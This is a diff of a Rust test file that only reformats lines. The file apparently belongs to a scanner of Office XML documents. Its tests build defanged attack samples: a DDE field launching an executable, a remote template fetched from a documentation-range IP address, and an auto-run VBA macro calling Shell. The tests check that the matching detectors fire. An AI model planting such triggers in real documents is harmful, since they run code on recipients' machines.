@@ -34,7 +34,8 @@ pub const EXAMPLES: &[Example] = &[Example {
 #[test]
 fn a_document_of_one_text_does_what_a_package_does() {
     let word = |inner: &str| case("a.xml", WORD.replace("<w:body/>", inner)).examine();
-    let dde = word("<w:r><w:instrText>DDE</w:instrText></w:r><w:instrText>AUTO c:\\\\windows\\\\nothing.exe</w:instrText>");
+    let dde =
+        word("<w:r><w:instrText>DDE</w:instrText></w:r><w:instrText>AUTO c:\\\\windows\\\\nothing.exe</w:instrText>");
     assert!(fired(&dde).contains(&"ooxml.dde"), "{:?}", fired(&dde));
     let template = word("<w:docPr><w:attachedTemplate w:val=\"http://203.0.113.5/a.dotm\"/></w:docPr>");
     assert!(fired(&template).contains(&"ooxml.remote-template"), "{:?}", fired(&template));
@@ -48,9 +49,10 @@ fn a_document_of_one_text_does_what_a_package_does() {
 fn the_macros_in_a_document_of_one_text_are_judged() {
     let source = "Sub AutoOpen()\r\n    Shell \"C:\\nosuch\\nothing.exe\"\r\nEnd Sub\r\n";
     let packed = base64::engine::general_purpose::STANDARD.encode(super::activemime::packed(&vba::project(source)));
-    let text = WORD
-        .replace("\"no\"", "\"yes\"")
-        .replace("<w:body/>", &format!("<w:docSuppData><w:binData w:name=\"editdata.mso\">{packed}</w:binData></w:docSuppData>"));
+    let text = WORD.replace("\"no\"", "\"yes\"").replace(
+        "<w:body/>",
+        &format!("<w:docSuppData><w:binData w:name=\"editdata.mso\">{packed}</w:binData></w:docSuppData>"),
+    );
     let report = case("a.xml", text).examine();
     assert!(fired(&report).contains(&"macros.attack"), "{:?}", fired(&report));
     let mail = format!(
